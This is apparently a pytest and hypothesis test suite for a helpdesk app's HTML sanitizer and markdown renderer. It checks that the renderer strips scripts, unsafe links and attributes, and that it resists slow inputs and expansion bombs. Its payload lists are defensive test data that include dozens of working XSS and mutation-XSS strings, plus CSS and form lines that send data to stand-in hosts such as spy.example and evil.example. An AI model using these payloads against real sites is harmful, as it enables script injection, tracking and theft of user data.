"""What people write is shown as they meant it, and nothing of it runs, loads or looks like the desk."""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from helpdesk_web.markup import ATTRIBUTES, LINK_REL, SCHEMES, TAGS, clean_html, excerpt, render_markdown

PAYLOADS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://spy.example/pixel.png">',
    '<img src="//spy.example/pixel.png" srcset="https://spy.example/2x.png 2x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript&colon;alert(1)">x</a>',
    '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/admin/people" target="_blank" rel="opener" ping="https://spy.example/">x</a>',
    '<p hx-get="/admin" hx-trigger="load" data-hx-post="/x" hx-on:click="alert(1)">x</p>',
    '<p hx-swap-oob="true" id="toast">x</p><div hx-ignore><i hx-disable>x</i></div>',
    '<p id="csrf_token" name="csrf_token" class="toast" style="position:fixed;inset:0">x</p>',
    "<style>@import 'https://spy.example/';input[value^=a]{background:url(//spy.example/a)}</style>x",
    '<link rel=stylesheet href="https://spy.example/"><base href="//spy.example/"><meta name=a>',
    '<form action="https://evil.example/"><input name=csrf_token><button formaction="/x">x</button></form>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><style><img src="</style><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<math><annotation-xml encoding="text/html"><p></math><img src=x onerror=alert(1)>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<plaintext><p>x",
    "<template><img src=x onerror=alert(1)></template>",
    "<details open ontoggle=alert(1)>x</details><video><source onerror=alert(1)></video>",
    "<a\x00href=javascript:alert(1)>x</a><b\x0bonclick=alert(1)>x",
    "<p/onclick=alert(1)/dir=\"rtl' onmouseover='alert(1)\">x",
    "<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=1>]]><?x <img src=x onerror=1>?>",
    "<table><a href=https://a.example><table><a href=https://b.example>x",
    "<p><b><p><b><p><b><p>x</b>y<table><b>z<td>w",
    "<a href=https://a.example>1<div><a href=https://b.example>2",
    "<pre>\n\n\n\n<b>x</b></pre>",
    "<ol><li>1<ul><ol><li></ol>x</ol></li><dd><dt><p></dl>",
    "<td colspan=99999 rowspan=65000 align=char>x",
    "\ud800\udfff \x00 \u202e <b>\ufffe",
    "&lt;script&gt; &amp;lt; &#60;b&#62; &#13; &nbsp;\u00a0 &notit;",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
    '[x](https://a.example "\\" onclick=alert(1)")',
    "![x](https://spy.example/pixel.png)",
    "[![x](https://spy.example/pixel.png)](https://a.example)",
    "![x][1]\n\n[1]: javascript:alert(1)",
    "```<img src=x onerror=alert(1)>\n<script>\n```",
    '[a]: https://a.example/?x="><script>\n\n[a]',
    "|a|\n|:-:|\n|<img src=x onerror=alert(1)>|",
]


class Inventory(HTMLParser):
    """Counts what a tolerant reader sees: (tag, attribute, value)."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def is_safe(html: str) -> bool:
    seen = Inventory()
    seen.feed(html)
    assert seen.tags <= TAGS, seen.tags - TAGS
    for tag, name, value in seen.attributes:
        assert name in ATTRIBUTES.get(tag, set()) | ATTRIBUTES["*"] | {"rel"}, (tag, name)
        assert name != "href" or value.partition(":")[0].lower() in SCHEMES, value
        assert name != "rel" or value == LINK_REL
    return True


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_keeps_only_what_is_listed_and_settles_at_once(payload):
    cleaned = clean_html(payload)

    assert is_safe(cleaned)
    assert clean_html(cleaned) == cleaned


@pytest.mark.parametrize("payload", [*MARKDOWN, *PAYLOADS])
def test_markdown_keeps_only_what_is_listed_and_settles_at_once(payload):
    rendered = render_markdown(payload)

    assert is_safe(rendered)
    assert clean_html(rendered) == rendered


_every_tag = [f"<{slash}{tag}>" for slash in ("", "/") for tag in sorted(TAGS)]
_foreign = [
    "<b id=1>",
    "<a href='https://a.example'>",
    "<svg>",
    "</svg>",
    "<math>",
    "<select>",
    "\n",
    "&",
    "<!--",
    "-->",
]
_pieces = st.sampled_from([*PAYLOADS, *MARKDOWN, *_every_tag, *_foreign])


@settings(deadline=None)
@given(st.lists(_pieces | st.text(max_size=8), max_size=12).map("".join))
def test_any_mixture_of_html_is_safe_and_settled(source):
    cleaned = clean_html(source)

    assert is_safe(cleaned)
    assert clean_html(cleaned) == cleaned


@settings(deadline=None)
@given(st.lists(_pieces | st.text(alphabet="[]()<>*_`~|:-#!\\\n ab1.@/&", max_size=12), max_size=8).map("".join))
def test_any_mixture_of_markdown_is_safe_and_settled(source):
    rendered = render_markdown(source)

    assert is_safe(rendered)
    assert clean_html(rendered) == rendered


@settings(deadline=None)
@given(st.text() | st.text(alphabet=st.characters()))
def test_an_excerpt_is_one_short_line_without_marks_that_deceive(source):
    line = excerpt(source, length=40)

    assert len(line) <= 40
    assert line == " ".join(line.split())
    assert not any(character in line for character in "\x00\x1b\x7f\u202e\u2066\u200f")
    line.encode()


def test_markdown_reads_as_written():
    rendered = render_markdown("# Hi\n\n**Bold** and `code`\nnext line\n\n- one\n- two\n\n> said")

    assert "<h1>Hi</h1>" in rendered
    assert "<strong>Bold</strong> and <code>code</code><br>\nnext line" in rendered
    assert "<li>one</li>" in rendered
    assert "<blockquote>" in rendered


def test_addresses_become_links_that_pass_nothing_on():
    rendered = render_markdown("see www.example.com or ask help@example.com")

    assert f'<a href="http://www.example.com" rel="{LINK_REL}">www.example.com</a>' in rendered
    assert 'href="mailto:help@example.com"' in rendered


def test_a_picture_from_elsewhere_becomes_a_link():
    assert render_markdown("![plan](https://a.example/p.png)") == (
        f'<p><a href="https://a.example/p.png" rel="{LINK_REL}">plan</a></p>\n'
    )
    assert render_markdown("[![plan](https://a.example/p.png)](https://b.example)").count("<a ") == 1


def test_table_columns_keep_their_side_without_a_style():
    rendered = render_markdown("|a|b|\n|:-|-:|\n|1|2|")

    assert '<td align="left">1</td>' in rendered
    assert '<th align="right">b</th>' in rendered


def test_html_in_markdown_is_shown_as_text():
    assert render_markdown("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"


@pytest.mark.parametrize("source", ["<div>" * 60_000, "<b>x</b> " * 30_000, "<p>" + "a" * 300_000, "<div>" * 2_001])
def test_html_that_is_too_large_or_deep_is_shown_as_text(source):
    shown = clean_html(source)

    assert shown.startswith("<pre>&lt;")
    assert shown.count("<") == 2
    assert clean_html(shown) == shown


def test_markdown_over_its_limit_is_shown_as_text():
    long = "**a** <b>\n" * 7_000

    shown = render_markdown(long)

    assert shown == "<pre>" + long.replace("<", "&lt;").replace(">", "&gt;") + "</pre>"
    assert clean_html(shown) == shown
    assert "<strong>" in render_markdown("**a**\n" * 1_000)


SLOW = [
    "[",
    "![",
    "[a](",
    "[][",
    "<http://",
    "[`",
    "http://a.",
    "http://a/(",
    "a@a",
    "|a",
    "> ",
    "- ",
    "*a **a ",
    "&",
    "\u00a0",
]


@pytest.mark.parametrize("unit", SLOW)
def test_no_text_takes_longer_than_its_length_deserves(unit):
    started = time.process_time()

    render_markdown((unit * 65_536)[:60_000])
    clean_html("<p>" + (unit * 262_144)[:120_000])
    excerpt(unit * 65_536)

    assert time.process_time() - started < 4


def test_a_link_target_repeated_ten_thousand_times_is_not_written_out():
    bomb = "[a]: http://a.example/" + "x" * 30_000 + "\n\n" + "[a]" * 10_000

    assert len(render_markdown(bomb)) < 2 * len(bomb)


def test_bold_tags_with_a_thousand_ids_do_not_multiply():
    bomb = "<p>" + "".join(f"<b id='{n}'>" for n in range(990)) + "</p>" + "<p>x</p>" * 990

    assert len(clean_html(bomb)) < 400_000


def test_an_excerpt_shows_words_without_their_marks():
    text = "# Order 12\n\n**Late** [again](https://a.example), see `code`\nand\n\n- one\n- two\n\n\u202eevil\x07"

    assert excerpt(text) == "Order 12 Late again, see code and one two evil"
    assert excerpt("word " * 100, length=20) == "word word word word…"
    assert excerpt("<b>not a tag</b>") == "<b>not a tag</b>"
